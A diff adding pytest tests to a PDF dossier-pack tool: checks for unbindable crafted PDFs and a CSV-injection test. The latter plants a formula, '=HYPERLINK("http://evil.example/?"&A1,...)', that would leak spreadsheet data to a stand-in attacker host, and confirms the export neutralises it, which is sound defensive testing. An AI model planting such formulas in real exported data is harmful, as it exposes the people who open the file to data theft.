@@ -11,10 +11,15 @@ kernel, and on the sample meeting in test_batch.py.
 
 from __future__ import annotations
 
+import csv
+import io
+import json
+import re
 import subprocess
 from pathlib import Path
 
 import pytest
+from conftest import joined
 from nbformat.v4 import new_code_cell, new_notebook, new_output
 
 from dossier.run.export import html_document, write_pdf
@@ -331,3 +336,58 @@ def test_an_item_whose_dossier_failed_is_on_the_cover_and_not_in_the_pack(
     assert tagged_pdf(Path(pack["pdf"])).outline == [
         ("7. A/1/2020 – Första ärendet", [("Avsnitt 1", []), ("Avsnitt 2", [])])
     ]
+
+
+def _crafted(kind: str, good: Path, path: Path) -> None:
+    """A dossier's PDF as someone may leave it in the output folder."""
+    import pikepdf
+
+    if kind == "malformed":
+        path.write_bytes(b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n")
+    elif kind == "not-a-pdf":
+        path.write_bytes(b"not a PDF at all")
+    else:
+        with pikepdf.open(good) as pdf:
+            if kind == "untagged":
+                del pdf.Root.StructTreeRoot
+            pdf.save(path, encryption=pikepdf.Encryption(owner="o", user="u") if kind == "encrypted" else None)
+
+
+@pytest.mark.parametrize("kind", ["malformed", "not-a-pdf", "encrypted", "untagged"])
+def test_a_dossier_pdf_the_pack_cannot_bind_is_named(small_pack, tmp_path, kind):
+    from dossier.errors import OutputError
+
+    _, dossiers = small_pack
+    bad = tmp_path / "A-1-2020.pdf"
+    _crafted(kind, dossiers[0].pdf, bad)
+    crafted = [PackedDossier("7", "A/1/2020", "Första", "A-1-2020", bad), dossiers[1]]
+    with pytest.raises(OutputError, match=rf"^{re.escape(str(bad))}: this PDF cannot be bound .*batch --force"):
+        write_pack_pdf(tmp_path / "pack.pdf", cover_with_links(crafted), crafted, lang="sv")
+    assert not (tmp_path / "pack.pdf").exists()
+
+
+@pytest.mark.kernel
+def test_the_data_attached_to_a_pdfa_dossier_holds_no_formula_a_spreadsheet_would_run(
+    tmp_path, write_data, valid_csv
+):
+    """OWASP's CSV injection: ``=HYPERLINK(…)`` from the registry opens as text, not as a link."""
+    import pikepdf
+    from processes import dossier
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Bilaga")'
+    quoted = formula.replace('"', '""')
+    events = valid_csv["events"].replace("e3,A/2/2021,2021-03-01,,decided,N,Beslut,",
+                                         f'e3,A/2/2021,2021-03-01,,decided,N,"{quoted}",')  # fmt: skip
+    data = write_data(tmp_path / "data", events=events)
+    out = tmp_path / "out"
+    done = dossier("render", "A/2/2021", "--data", data, "--out", out, "--pdfa", "--format", "pdf")
+    assert done.returncode == 0, done.stderr
+    with pikepdf.open(out / "A-2-2021" / "A-2-2021.pdf") as pdf:
+        attached = pdf.attachments["events.csv"].get_file().read_bytes().decode("utf-8")
+    rows = list(csv.reader(io.StringIO(attached)))
+    assert rows[1][rows[0].index("title")] == "'" + formula
+    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
+    # The records the comparison keeps are the registry's own, as are the dossier's words.
+    extract = json.loads((out / "A-2-2021" / "case-extract.json").read_text(encoding="utf-8"))
+    assert formula in next(csv.DictReader(io.StringIO(extract["tables"]["events.csv"])))["title"]
+    assert joined(formula) in joined(" ".join(page_texts(out / "A-2-2021" / "A-2-2021.pdf")))
